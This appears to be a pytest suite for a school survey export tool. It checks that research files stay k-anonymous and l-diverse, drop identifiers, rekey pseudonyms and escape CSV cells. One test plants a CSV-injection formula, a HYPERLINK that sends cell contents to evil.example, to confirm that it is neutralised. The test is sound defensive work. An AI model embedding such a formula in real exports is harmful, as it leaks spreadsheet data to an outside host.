"""Response-level research exports (issue 6, points 4-7): what leaves, what never does,
and k-anonymity / l-diversity checked with pycanon on the files as written."""

import uuid
from datetime import date

import numpy as np
import pandas as pd
import pyreadstat
import pytest
from pycanon import anonymity as canon

from analytics.exporters import REGISTRY, ExportRefused, ExportScope, export
from analytics.exporters.csvfile import safe_cell
from analytics.scoring import ItemSpec, component_scores
from surveys import services
from surveys.models import Instrument, Response, Series
from surveys.pseudonyms import rekey, series_pseudonym

GENDERS = (["girl", "boy", "another", "prefer_not"], [0.46, 0.46, 0.04, 0.04])
RAW_FORBIDDEN = ("client_id", "session", "submitted_at", "language", "class_group", "id")


def field_wave(world, wave, *, per_class=30, seed=1, linked_numbers=False):
    """Open a wave, store per_class responses in each Hilltop class, close it."""
    rng = np.random.default_rng(seed)
    leader = world["leader"]
    services.open_wave(wave, by=leader)
    rows = []
    for name in ("7A", "7B", "8A"):
        session = services.open_session(wave, world["classes"][name], by=leader)
        for i in range(per_class):
            answers = rng.integers(1, 5, 6)
            pseudonym = (series_pseudonym(wave.series, f"{name}-{i}") if linked_numbers
                         else None)
            rows.append(Response(
                client_id=uuid.uuid4(), wave=wave, session=session,
                class_group=session.class_group, school=world["school"],
                year_level=session.class_group.year_level, pseudonym=pseudonym,
                gender=str(rng.choice(GENDERS[0], p=GENDERS[1])), language="es",
                **{f"v{j + 1:02d}": int(v) for j, v in enumerate(answers)}))
    Response.objects.bulk_create(rows)
    services.close_wave(wave, by=leader)
    return rows


def scope_for(world, agreement="agr-one", k=10, **options):
    return ExportScope(agreement_id=agreement, wave_ids=(world["wave"].id,),
                       school_ids=(world["school"].id,), k=k, **options)


def read_back(result):
    path = result.files[0].path
    if path.endswith(".csv"):
        return pd.read_csv(path, dtype=str, keep_default_na=False)
    if path.endswith(".parquet"):
        return pd.read_parquet(path)
    reader = pyreadstat.read_sav if path.endswith(".sav") else pyreadstat.read_dta
    return reader(path, apply_value_formats=True)[0]


def quasi_identifiers(frame):
    return [c for c in ("wave", "school", "class", "year_level", "gender", "home_language")
            if c in frame.columns]


def pycanon_k_l(frame):
    """k and l as pycanon measures them; a missing band counts as a value of its own."""
    qis = quasi_identifiers(frame)
    bands = [c for c in frame.columns if c.startswith("band_")]
    data = frame[qis + bands].astype(object).fillna("(none)").replace("", "(none)")
    data = data.reset_index(drop=True)
    return canon.k_anonymity(data, qis), canon.l_diversity(data, qis, bands)


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
@pytest.mark.parametrize("k", [5, 10, 20])
def test_written_files_are_k_anonymous_and_l_diverse(world, tmp_path, fmt, k):
    field_wave(world, world["wave"])
    result = export(scope_for(world, k=k), fmt, str(tmp_path))
    frame = read_back(result)
    k_found, l_found = pycanon_k_l(frame)
    assert k_found >= k
    assert l_found >= 2
    assert len(frame) == result.rows == result.report["records_out"]
    assert result.report["measured"]["k"] == k_found


def test_direct_identifiers_and_free_text_never_leave(world, tmp_path):
    rows = field_wave(world, world["wave"])
    result = export(scope_for(world), "csv", str(tmp_path))
    text = open(result.files[0].path, encoding="utf-8").read()
    frame = read_back(result)
    assert not set(RAW_FORBIDDEN) & set(frame.columns)
    assert "pseudonym" not in frame.columns  # anonymous series
    school, wave = world["school"], world["wave"]
    secrets = [str(r.client_id) for r in rows[:20]] + [
        school.name, school.public_id, wave.label, wave.public_id, wave.series.name,
        "2026-09-15", *(c.public_id for c in world["classes"].values()),
        *(f",{c.name}," for c in world["classes"].values())]
    assert not [s for s in secrets if s in text]
    assert set(frame["wave_month"]) == {"2026-09"}  # dates coarsened to the wave's month
    assert set(frame["wave_season"]) == {"autumn"}


def test_item_values_and_scores_follow_the_instrument(world, tmp_path):
    field_wave(world, world["wave"])
    frame = read_back(export(scope_for(world), "parquet", str(tmp_path)))
    items = list(world["instrument"].items.all())
    keys = [i.key for i in items]
    assert set(keys) <= set(frame.columns)
    specs = [ItemSpec(i.key, i.component, 1, 4, i.reverse_keyed, (3, 4)) for i in items]
    expected = component_scores(frame[keys].to_numpy(dtype=float), specs)["perceptions"]
    assert np.allclose(frame["score_perceptions"], np.round(expected.scores, 4),
                       equal_nan=True)
    assert set(frame["instrument"]) == {"belonging-pulse"}
    assert set(frame["instrument_version"]) == {"1.0"}
    assert set(frame["band_perceptions"].dropna()) <= {"low", "middle", "high"}


def test_codes_differ_between_agreements_and_pseudonyms_cannot_be_joined(world, tmp_path):
    Series.objects.filter(pk=world["series"].pk).update(mode=Series.Mode.LINKED)
    world["wave"].series.refresh_from_db()
    rows = field_wave(world, world["wave"], linked_numbers=True)
    one = read_back(export(scope_for(world, "agr-one", include_pseudonyms=True), "csv",
                           str(tmp_path / "one")))
    two = read_back(export(scope_for(world, "agr-two", include_pseudonyms=True), "csv",
                           str(tmp_path / "two")))
    assert set(one["school"]).isdisjoint(two["school"])
    assert set(one["wave"]).isdisjoint(two["wave"])
    assert set(one["pseudonym"]).isdisjoint(two["pseudonym"])
    raw = {r.pseudonym for r in rows}
    assert raw.isdisjoint(one["pseudonym"])
    assert {rekey(p, "agreement:agr-one") for p in raw} >= set(one["pseudonym"])
    without = read_back(export(scope_for(world, "agr-one"), "csv", str(tmp_path / "none")))
    assert "pseudonym" not in without.columns


def test_the_report_states_generalisation_and_suppression(world, tmp_path):
    field_wave(world, world["wave"])
    result = export(scope_for(world, k=10), "csv", str(tmp_path))
    report = result.report
    assert "class code dropped" in report["generalisations"]
    assert "class" not in read_back(result).columns
    suppressed = sum(report["records_locally_suppressed"].values())
    assert report["records_in"] == 90
    assert report["records_out"] + report["records_removed"] == 90
    assert suppressed + report["records_removed"] <= 0.05 * 90
    assert report["measured"]["k"] >= 10 and report["measured"]["l"] >= 2
    assert [f.name.endswith(("-csv.csv", "-csv-report.json")) for f in result.files] == [
        True, True]


def test_a_k_the_data_cannot_meet_is_refused_naming_what_to_drop(world, tmp_path):
    field_wave(world, world["wave"])
    with pytest.raises(ExportRefused) as refused:
        export(scope_for(world, k=100), "csv", str(tmp_path))
    message = str(refused.value)
    assert "k = 100" in message
    assert "year level" in message and "gender" in message and "school code" in message
    assert list(tmp_path.iterdir()) == []  # no file, not even a partial one


@pytest.mark.parametrize("fmt", ["sav", "dta"])
def test_statistical_files_keep_variable_and_value_labels(world, tmp_path, fmt):
    field_wave(world, world["wave"], per_class=60)  # enough for gender to stay
    result = export(scope_for(world), fmt, str(tmp_path))
    reader = pyreadstat.read_sav if fmt == "sav" else pyreadstat.read_dta
    raw, meta = reader(result.files[0].path)
    labels = meta.column_names_to_labels
    assert labels["PISA2018_ST034Q06TA"].startswith(
        "PISA2018.ST034Q06TA [reverse-keyed]: I feel")
    assert labels["score_perceptions"].startswith("Perceptions score")
    values = meta.variable_value_labels
    assert values["PISA2018_ST034Q03TA"] == {1: "Strongly disagree", 2: "Disagree",
                                             3: "Agree", 4: "Strongly agree"}
    assert "Girl" in values["gender"].values()
    assert set(values["band_perceptions"].values()) == {
        "Low third of the scale range", "Middle third", "High third"}
    assert len(raw) == result.rows
    csv_frame = read_back(export(scope_for(world), "csv", str(tmp_path / "csv")))
    assert sorted(raw["score_perceptions"]) == sorted(
        csv_frame["score_perceptions"].astype(float))
    labelled = read_back(result)
    assert pycanon_k_l(labelled)[0] >= 10


def test_csv_cells_cannot_become_formulas(world, tmp_path):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    Instrument.objects.filter(pk=world["instrument"].pk).update(key=hostile, version="+1")
    field_wave(world, world["wave"])
    result = export(scope_for(world), "csv", str(tmp_path))
    frame = read_back(result)
    assert set(frame["instrument"]) == {"'" + hostile}
    assert set(frame["instrument_version"]) == {"'+1"}
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "1") == "'" + start + "1"
    assert safe_cell("7-8") == "7-8" and safe_cell(3) == 3


def test_unknown_format_and_progress(world, tmp_path):
    field_wave(world, world["wave"])
    with pytest.raises(ValueError, match="unknown export format"):
        export(scope_for(world), "xlsx", str(tmp_path))
    seen = []
    export(scope_for(world), "parquet", str(tmp_path), progress=lambda p, s: seen.append(p))
    assert seen[-1] == 100 and seen == sorted(seen)
    assert set(REGISTRY) == {"csv", "parquet", "sav", "dta", "codebook", "summary"}


def test_two_waves_are_generalised_together(world, tmp_path):
    second = services.create_wave(world["series"], by=world["leader"], label="Spring 2027",
                                  season="spring", starts_on=date(2027, 3, 1))
    field_wave(world, world["wave"], seed=2)
    field_wave(world, second, seed=3)
    scope = ExportScope(agreement_id="agr", wave_ids=(world["wave"].id, second.id),
                        school_ids=(world["school"].id,), k=10)
    frame = read_back(export(scope, "parquet", str(tmp_path)))
    assert set(frame["wave_month"]) == {"2026-09", "2027-03"}
    k_found, l_found = pycanon_k_l(frame)
    assert k_found >= 10 and l_found >= 2
